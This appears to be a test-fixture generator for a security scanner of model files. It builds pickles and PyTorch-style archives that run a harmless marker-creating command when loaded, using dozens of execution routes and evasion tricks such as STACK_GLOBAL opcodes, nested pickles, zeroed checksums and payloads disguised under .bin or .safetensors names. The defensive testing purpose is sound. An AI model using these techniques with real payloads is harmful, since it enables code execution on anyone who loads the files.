"""Pickles that run code when they are loaded: harmless code, which leaves a file in the working folder. Standard library only.

Not part of the corpus that check.py audits: tools/trust gives them to other tools as well.
"""

import io
import pickle
import zipfile

WRITE = "open('marker', 'w').close()"
SHELL = ": > marker"


def text(value: str) -> bytes:
    return b"X" + len(value.encode()).to_bytes(4, "little") + value.encode()


def call(callee: str, *arguments: bytes) -> bytes:
    module, name = callee.split(" ")
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def bare(value: bytes) -> bytes:
    # From protocol 4 on a name may have dots.
    return (b"\x80\x04" if b".run" in value or b".touch" in value else b"\x80\x02") + value + b"."


INNER = bare(call("os system", text(SHELL)))

# How the code is reached. Each is one expression of a pickle.
WAYS = {
    "os_system": call("os system", text(SHELL)),
    "posix_system": call("posix system", text(SHELL)),
    "builtins_exec": call("builtins exec", text(WRITE)),
    "builtins_eval": call("builtins eval", text(WRITE)),
    "python2_eval": call("__builtin__ eval", text(WRITE)),
    "builtins_open": call("builtins open", text("marker"), text("w")),
    "io_open": call("io open", text("marker"), text("w")),
    "io_file": call("_io FileIO", text("marker"), text("w")),
    "pathlib_touch": call("pathlib Path.touch", call("pathlib PosixPath", text("marker"))),
    "subprocess_run": call("subprocess getoutput", text(SHELL)),
    "subprocess_popen": call("subprocess Popen", b"](" + text("touch") + text("marker") + b"e"),
    "timeit": call("timeit timeit", text(WRITE)),
    "profile": call("cProfile run", text(WRITE)),
    "pdb": call("bdb Bdb.run", call("bdb Bdb"), text(WRITE)),
    "runpy": call("runpy _run_code", b"c__builtin__\ncompile\n(" + text(WRITE) + text("x") + text("exec") + b"tR", b"}"),
    "code_module": call("code InteractiveInterpreter.runsource", call("code InteractiveInterpreter"), text(WRITE)),
    "shutil_copy": call("shutil copyfile", text("/etc/hostname"), text("marker")),
    "os_mkdir": call("os mkdir", text("marker")),
    "os_symlink": call("os symlink", text("/"), text("marker")),
    "sqlite": call("sqlite3 connect", text("marker")),
    "logging": call("logging FileHandler", text("marker")),
    "pickle_in_pickle": call("_pickle loads", b"C" + bytes([len(INNER)]) + INNER),
    "getattr": call("builtins getattr", call("importlib import_module", text("os")), text("system")) + b"(" + text(SHELL) + b"tR",
    "partial": call("functools partial", b"cos\nsystem\n", text(SHELL)) + b"(tR",
    "by_map": call("builtins list", call("builtins map", b"cos\nsystem\n", b"](" + text(SHELL) + b"e")),
    "by_reduce": call("functools reduce", b"cos\nmkdir\n", b"](" + text("marker") + b"M\xff\x01e"),
    "numpy_exec": call("numpy.testing._private.utils runstring", text(WRITE), b"}"),
}


def by_stack_global() -> bytes:
    """`os system` by STACK_GLOBAL: no text of the pickle holds both names on a line."""
    return b"\x80\x04" + b"\x8c\x02os\x8c\x06system\x93(" + text(SHELL) + b"tR."


def archive(records: dict, **more) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for name, data in records.items():
            z.writestr(zipfile.ZipInfo("archive/" + name), data, **more)
    return buffer.getvalue()


def torch_save(data: bytes, **more) -> bytes:
    return archive({"data.pkl": data, "byteorder": b"little", "version": b"3\n"}, **more)


def torchscript(data: bytes) -> bytes:
    code = b"class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
    return archive({"data.pkl": data, "code/__torch__.py": code, "constants.pkl": b"\x80\x02).", "version": b"3\n"})


def package(data: bytes) -> bytes:
    return archive({"m/m.pkl": data, ".data/extern_modules": b"os\nposix\nbuiltins\n", ".data/version": b"6\n",
                    ".data/python_version": b"3.11"})


def broken_checksums(data: bytes) -> bytes:
    """Readers that check them see an error, PyTorch's does not where all are zero."""
    whole = bytearray(torch_save(data))
    for signature, at in ((b"PK\x01\x02", 16), (b"PK\x03\x04", 14)):
        start = whole.find(signature)
        while start >= 0:
            whole[start + at:start + at + 4] = bytes(4)
            start = whole.find(signature, start + 1)
    return bytes(whole)


FILES = {f"run_{name}.pkl": bare(way) for name, way in WAYS.items()}
FILES.update({f"run_{name}.pt": torch_save(bare(way)) for name, way in WAYS.items()})
_SYSTEM = bare(WAYS["os_system"])
FILES.update({
    "run_stack_global.pkl": by_stack_global(),
    "run_stack_global.pt": torch_save(by_stack_global()),
    "run_deflated.pt": torch_save(_SYSTEM, compress_type=zipfile.ZIP_DEFLATED),
    "run_no_checksums.pt": broken_checksums(_SYSTEM),
    "run_then_broken.pkl": _SYSTEM[:-1] + b"\xff",
    "run_then_broken.pt": torch_save(_SYSTEM[:-1] + b"\xff"),
    "run_behind_a_pickle.pkl": pickle.dumps({"weight": 1}, 2) + _SYSTEM,
    "run_in_torchscript.pt": torchscript(_SYSTEM),
    "run_in_package.pt": package(_SYSTEM),
    "run_named_bin.bin": torch_save(_SYSTEM),
    "run_named_safetensors.safetensors": _SYSTEM,
})
